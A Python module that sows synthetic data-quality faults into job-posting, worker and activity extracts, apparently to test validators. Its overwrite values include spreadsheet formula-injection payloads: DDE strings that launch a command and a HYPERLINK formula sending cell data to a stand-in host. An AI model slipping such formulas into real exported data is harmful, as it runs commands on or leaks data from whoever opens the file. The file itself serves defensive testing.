"""The faults an extract is sown with: what is wrong, in which column, how often.

A fault overwrites cells of rows that are otherwise sound, and no row bears two faults. Every feed bears each
of its faults at least once, so a small extract is a little worse than a large one.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from enum import StrEnum

import numpy as np

from gateway.demo.platform.cells import Columns, Ints, put


class Fault(StrEnum):
    """What can be wrong with a row."""

    POSTING_WITHOUT_KEY = "posting without key"
    POSTING_WITHOUT_EMPLOYER = "posting without employer"
    UNKNOWN_INDUSTRY = "unknown industry"
    POSTING_REGION = "posting of an unknown region"
    NEGATIVE_HEADCOUNT = "negative headcount"
    HEADCOUNT_NOT_A_NUMBER = "headcount not a number"
    PAY_SENTINEL = "pay sentinel"
    PUBLISHED_AT = "published_at not a date-time"
    FORMULA_TITLE = "formula in a title"
    FORMULA_DESCRIPTION = "formula in a description"
    REPEATED_POSTING = "repeated posting"
    WORKER_WITHOUT_KEY = "worker without key"
    BIRTH_DATE = "birth_date not a date"
    UNDER_AGE = "under age"
    OVER_AGE = "over age"
    UNKNOWN_SKILL = "unknown skill"
    INTENDED_REGION = "unknown intended region"
    REGISTERED_AT = "registered_at not a date-time"
    LAST_ACTIVE_AT = "last_active_at not a date-time"
    REPEATED_WORKER = "repeated worker"
    ACTIVITY_WITHOUT_KEY = "activity without key"
    ACTIVITY_WITHOUT_WORKER = "activity without worker"
    UNKNOWN_EVENT = "unknown event"
    ACTIVITY_REGION = "activity of an unknown region"
    OCCURRED_AT = "occurred_at not a date-time"
    NO_SUCH_POSTING = "application to a posting that does not exist"
    REPEATED_ACTIVITY = "repeated activity"


POSTING_FAULTS: Mapping[Fault, float] = {
    Fault.POSTING_WITHOUT_KEY: 0.0002,
    Fault.POSTING_WITHOUT_EMPLOYER: 0.0002,
    Fault.UNKNOWN_INDUSTRY: 0.0004,
    Fault.POSTING_REGION: 0.0004,
    Fault.NEGATIVE_HEADCOUNT: 0.0002,
    Fault.HEADCOUNT_NOT_A_NUMBER: 0.0004,
    Fault.PAY_SENTINEL: 0.0003,
    Fault.PUBLISHED_AT: 0.0003,
    Fault.FORMULA_TITLE: 0.0001,
    Fault.FORMULA_DESCRIPTION: 0.0001,
    Fault.REPEATED_POSTING: 0.0005,
}
WORKER_FAULTS: Mapping[Fault, float] = {
    Fault.WORKER_WITHOUT_KEY: 0.0002,
    Fault.BIRTH_DATE: 0.0004,
    Fault.UNDER_AGE: 0.0004,
    Fault.OVER_AGE: 0.0002,
    Fault.UNKNOWN_SKILL: 0.0004,
    Fault.INTENDED_REGION: 0.0004,
    Fault.REGISTERED_AT: 0.0002,
    Fault.LAST_ACTIVE_AT: 0.0002,
    Fault.REPEATED_WORKER: 0.0005,
}
ACTIVITY_FAULTS: Mapping[Fault, float] = {
    Fault.ACTIVITY_WITHOUT_KEY: 0.0002,
    Fault.ACTIVITY_WITHOUT_WORKER: 0.0003,
    Fault.UNKNOWN_EVENT: 0.0005,
    Fault.ACTIVITY_REGION: 0.0005,
    Fault.OCCURRED_AT: 0.0004,
    Fault.NO_SUCH_POSTING: 0.0004,
    Fault.REPEATED_ACTIVITY: 0.0007,
}

_REGIONS = ("220381", "公主岭市", "210103", "2203029", "长春市宽城区", "未知")
_TIMES = ("2026-02-30 10:00:00", "2026/13/09", "昨天下午", "46310.5", "0000-00-00 00:00:00", "26-9-31")
_OVERWRITES: Mapping[Fault, Mapping[str, tuple[str | None, ...]]] = {
    Fault.POSTING_WITHOUT_KEY: {"posting_id": (None,)},
    Fault.POSTING_WITHOUT_EMPLOYER: {"employer_id": (None,)},
    Fault.UNKNOWN_INDUSTRY: {"industry": ("100", "00", "X2", "互联网+", "餐饮", "98")},
    Fault.POSTING_REGION: {"region": _REGIONS},
    Fault.NEGATIVE_HEADCOUNT: {"headcount": ("-1", "-5", "-10人")},
    Fault.HEADCOUNT_NOT_A_NUMBER: {"headcount": ("三五个", "3-5", "很多", "N/A", "2.5", "十人左右")},
    Fault.PAY_SENTINEL: {"pay": ("99999999", "99999999元/月", "9999999-99999999")},
    Fault.PUBLISHED_AT: {"published_at": _TIMES},
    Fault.FORMULA_TITLE: {"title": ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+2*3")},
    Fault.FORMULA_DESCRIPTION: {
        "description": ('=HYPERLINK("http://example.invalid/?x="&A1)', "=cmd|' /C calc'!A0", "-1+1|招人")
    },
    Fault.WORKER_WITHOUT_KEY: {"worker_id": (None,)},
    Fault.BIRTH_DATE: {"birth_date": ("1990-02-30", "不详", "1985/13/45", "19880", "0000-00-00")},
    Fault.UNKNOWN_SKILL: {"skills": ("无人机航拍", "家政保洁;算账", "Excel", "驾驶员B2")},
    Fault.INTENDED_REGION: {"intended_regions": ("公主岭市", "220381", "220302;长春市", "北京")},
    Fault.REGISTERED_AT: {"registered_at": _TIMES},
    Fault.LAST_ACTIVE_AT: {"last_active_at": _TIMES},
    Fault.ACTIVITY_WITHOUT_KEY: {"activity_id": (None,)},
    Fault.ACTIVITY_WITHOUT_WORKER: {"worker_id": (None,)},
    Fault.UNKNOWN_EVENT: {"event": ("收藏", "click", "已读", "报 名")},
    Fault.ACTIVITY_REGION: {"region": _REGIONS},
    Fault.OCCURRED_AT: {"occurred_at": _TIMES},
    Fault.NO_SUCH_POSTING: {
        "event": ("报名",),
        "posting_id": ("P999999001", "P999999002", "P999999003"),
        "employer_id": ("E999999",),
    },
}


_REPEATS = frozenset({Fault.REPEATED_POSTING, Fault.REPEATED_WORKER, Fault.REPEATED_ACTIVITY})


@dataclass(frozen=True, slots=True, kw_only=True)
class Plan:
    """Which rows bear which fault, by row number from 0, ascending; `count` is the rows without repeats."""

    count: int
    rows: Mapping[Fault, Ints]

    def of(self, fault: Fault, first: int = 0, last: int | None = None) -> Ints:
        """The rows with this fault among `first` to `last` (exclusive), counted from `first`."""
        rows = self.rows[fault]
        low = int(np.searchsorted(rows, first))
        high = len(rows) if last is None else int(np.searchsorted(rows, last))
        return rows[low:high] - first


def sow(rng: np.random.Generator, faults: Mapping[Fault, float], total: int) -> Plan:
    """Choose rows for every fault, none twice, so that the feed has `total` rows with its repeats.

    Raises ValueError when there are fewer rows than faults.
    """
    each = {fault: max(1, round(share * total)) for fault, share in faults.items()}
    count = total - sum(each[fault] for fault in _REPEATS & each.keys())
    rows = rng.choice(count, sum(each.values()), replace=False, shuffle=True)
    parts = np.split(rows, np.cumsum(list(each.values()))[:-1])
    return Plan(count=count, rows={fault: np.sort(part) for fault, part in zip(each, parts, strict=True)})


def spoil(columns: Columns, plan: Plan, first: int, last: int) -> Columns:
    """The columns of rows `first` to `last` (exclusive) with the planned cells overwritten."""
    spoiled = dict(columns)
    for fault, cells in _OVERWRITES.items():
        if fault not in plan.rows:
            continue
        rows = plan.of(fault, first, last)
        nth = int(np.searchsorted(plan.rows[fault], first))
        for column, texts in cells.items():
            bad = [texts[(nth + i) % len(texts)] for i in range(len(rows))]
            spoiled[column] = put(spoiled[column], rows, bad)
    return spoiled


def repeated(rng: np.random.Generator, rows: Ints, count: int) -> Ints:
    """Row numbers 0 to `count` with each of `rows` coming once more, up to 500 rows later."""
    later = np.minimum(rows + rng.integers(1, 501, len(rows)), count)
    return np.insert(np.arange(count), later, rows)
